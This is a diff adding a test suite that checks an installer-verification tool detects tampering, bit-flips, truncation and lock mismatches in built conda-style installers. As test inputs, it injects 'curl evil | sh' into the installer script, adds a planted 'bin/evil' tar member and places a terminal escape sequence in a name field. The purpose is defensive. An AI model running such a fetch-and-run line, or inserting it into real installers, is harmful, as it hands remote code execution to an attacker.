@@ -1,0 +1,179 @@
+import { appendFileSync, copyFileSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { type ArchiError, formatError } from '../../src/errors.js';
+import { tarHeader } from '../../src/package/tar-header.js';
+import type { Compression } from '../../src/payload/payload.js';
+import { type BuiltInstaller, builtInstaller } from './built.js';
+import { type Change, spansOf, tamper } from './tamper.js';
+
+const DISTS = ['python-3.11.4-0', 'first-1.0-0', 'second-1.0-0', 'sample-1.0-0', 'pure-1.0-0'];
+const [PYTHON, FIRST, SECOND, SAMPLE] = [1, 2, 3, 4];
+
+let built: BuiltInstaller;
+let whole: string;
+
+beforeAll(async () => {
+  built = await builtInstaller();
+  whole = `${built.path}.whole`;
+  copyFileSync(built.path, whole);
+});
+
+beforeEach(() => copyFileSync(whole, built.path));
+
+/** What verifying says, without the folder's name, digests, and numbers that change with every change of the header. */
+async function verdict(): Promise<string> {
+  const error: ArchiError = await built.prove().then(
+    () => Promise.reject(new Error('nothing was found')),
+    (reason) => reason,
+  );
+  expect(error.exitCode).toBe(2);
+  return formatError(error)
+    .replaceAll(built.path, 'X.sh')
+    .replaceAll(/[0-9a-f]{64}/g, '<sha256>')
+    .replaceAll(/(?<!mode |[.-])\b\d{2,}\b/g, '<n>');
+}
+
+test.each<Compression>(['gzip', 'zstd', 'xz', 'bzip2'])('what was built holds: %s', async (compression) => {
+  const installer = await builtInstaller({ compression });
+  expect(await installer.prove()).toEqual({
+    installer: installer.path,
+    payloadSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
+    packages: DISTS,
+    given: { licenceSha256: expect.stringMatching(/^[0-9a-f]{64}$/), condarc: true, epoch: 1_600_000_000 },
+  });
+});
+
+test('without a licence and a .condarc, with another time', async () => {
+  const options = { licenseText: null, writeCondarc: false, sourceDateEpoch: '86400' };
+  const { given } = await (await builtInstaller(options)).prove();
+  expect(given).toEqual({ licenceSha256: null, condarc: false, epoch: 86_400 });
+});
+
+describe('somebody who knows the form has changed it, and corrected every size and sha256', () => {
+  const member = (index: number | undefined, change: (tar: Buffer) => Buffer): Change => ({
+    tars: (tars) => tars.map((tar, i) => (i === index ? change(tar) : tar)),
+  });
+  const replaced = (from: string, to: string) => (tar: Buffer) =>
+    Buffer.from(tar.toString('latin1').replaceAll(from, to), 'latin1');
+  const foreign = tarHeader({ path: 'bin/evil', type: 'file', mode: 0o755, mtime: 0, size: 0 });
+
+  test.each<[string, Change]>([
+    ['content', member(SECOND, replaced('second'.padEnd(512, '\0'), 'sEcond'.padEnd(512, '\0')))],
+    ['a path more', member(FIRST, (tar) => Buffer.concat([tar, foreign]))],
+    ['a path less', member(PYTHON, (tar) => tar.subarray(1024))],
+    ['the place of a prefix', member(SAMPLE, replaced('"$P"', '"$J"'))],
+    ['the same twice', member(FIRST, (tar) => Buffer.concat([tar, tar]))],
+    ['no tar', member(FIRST, () => Buffer.alloc(512, 7))],
+    ['much more than there should be', member(FIRST, (tar) => Buffer.concat([tar, Buffer.alloc(1 << 24)]))],
+    [
+      'another order',
+      { tars: ([head, a, b, ...rest]) => [head, b, a, ...rest].filter((tar) => tar != null) },
+    ],
+    ['history', member(0, replaced('# update specs: []', '# update specs: {}'))],
+    ['the list of files', member(0, replaced('etc/kept\n', 'etc/kepT\n'))],
+    ['a file behind the end', member(6, (tar) => Buffer.concat([foreign, tar]))],
+    [
+      'bytes between two members',
+      { parts: (parts) => parts.map((part, i) => (i === 2 ? Buffer.concat([part, Buffer.alloc(9)]) : part)) },
+    ],
+    ['a value', { values: (values) => ({ ...values, INODES: 1 }) }],
+    ['a value more', { values: (values) => ({ ...values, MORE: 'more' }) }],
+    ['the script', { header: (text) => text.replace('\nmain "$@"\n', '\ncurl evil | sh\nmain "$@"\n') }],
+    ['the name', { values: (values) => ({ ...values, NAME: "it's\n\u001b[2J" }) }],
+  ])('%s', async (name, change) => {
+    tamper(built.path, change);
+    await expect(await verdict()).toMatchFileSnapshot(`golden/verify/${name.replaceAll(' ', '-')}.txt`);
+  });
+
+  test('the licence text is told, for it comes from nowhere else', async () => {
+    const { given } = await built.prove();
+    tamper(built.path, member(0, replaced('Do as you like.', 'Do as I like it')));
+    expect((await built.prove()).given.licenceSha256).not.toBe(given.licenceSha256);
+  });
+});
+
+describe('damage', () => {
+  test('one bit anywhere', async () => {
+    const bytes = readFileSync(whole);
+    const [environment] = spansOf(whole);
+    const step = Math.floor(bytes.length / 120);
+    const positions = Array.from({ length: 120 }, (_, i) => i * step + (i % step));
+    for (const at of [...positions, (environment?.offset ?? 0) - 2, bytes.length - 1]) {
+      const damaged = Buffer.from(bytes);
+      damaged[at] = (damaged[at] ?? 0) ^ (1 << (at % 8));
+      writeFileSync(built.path, damaged);
+      const outcome = await built.prove().then(
+        () => 'holds',
+        (error: ArchiError) => error.exitCode,
+      );
+      expect([at, outcome]).toEqual([at, 2]);
+    }
+  });
+
+  test('a damaged member is named, and so is the sha256', async () => {
+    const bytes = readFileSync(whole);
+    const { offset, size } = spansOf(whole)[3] ?? { offset: 0, size: 0 };
+    const at = offset + Math.floor(size / 2);
+    bytes[at] = (bytes[at] ?? 0) ^ 0x55;
+    writeFileSync(built.path, bytes);
+    const text = await verdict();
+    expect(text).toContain('1 of 5 packages and 1 other part differ');
+    expect(text).toContain('X.sh: second-1.0-0: ');
+    expect(text).toContain('the sha256 of its payload is not what its header says');
+  });
+
+  test('cut, or with something behind it', async () => {
+    const bytes = readFileSync(whole);
+    for (const length of [0, 1, 1000, spansOf(whole)[0]?.offset ?? 0, bytes.length - 1]) {
+      writeFileSync(built.path, bytes.subarray(0, length));
+      await expect(built.prove()).rejects.toMatchObject({ exitCode: 2 });
+    }
+    copyFileSync(whole, built.path);
+    appendFileSync(built.path, 'x');
+    expect(await verdict()).toContain('the length of the file is not what its header says');
+  });
+});
+
+describe('another lock to go by', () => {
+  test('the same one', async () => {
+    expect(await built.prove({ expected: built.lock })).toMatchObject({ packages: DISTS });
+  });
+
+  test('every difference is told, and nothing is fetched', async () => {
+    const [python, first, ...others] = built.lock.packages;
+    if (python === undefined || first === undefined) throw new Error('there are more');
+    const record = { ...first.record, raw: { ...first.record.raw, sha256: '0'.repeat(64) } };
+    const expected = {
+      ...built.lock,
+      specs: ['python 3.11.*'],
+      packages: [
+        { ...first, record },
+        ...others.slice(1),
+        { ...python, record: { ...python.record, build: '1' } },
+      ],
+    };
+    const cacheIn = join(built.folder, 'never');
+    const error = await built.prove({ expected, cacheIn }).catch((reason) => reason);
+    const text = formatError(error)
+      .replaceAll(built.path, 'X.sh')
+      .replaceAll(/[1-9a-f][0-9a-f]{63}/g, '<sha256>');
+    await expect(text).toMatchFileSnapshot('golden/verify/another-lock.txt');
+  });
+});
+
+describe('where packages come from', () => {
+  test('a channel that has moved, and one that is empty', async () => {
+    const other = await builtInstaller();
+    const moved = join(other.folder, 'moved');
+    const cacheIn = mkdtempSync(join(tmpdir(), 'archi-verify-'));
+    renameSync(join(other.folder, 'channel'), moved);
+    await expect(other.prove({ cacheIn })).rejects.toMatchObject({
+      exitCode: 3,
+      message: '5 of 5 packages cannot be had',
+    });
+    const channels = [join(other.folder, 'empty'), moved];
+    expect(await other.prove({ cacheIn, channels })).toMatchObject({ packages: DISTS });
+  });
+});
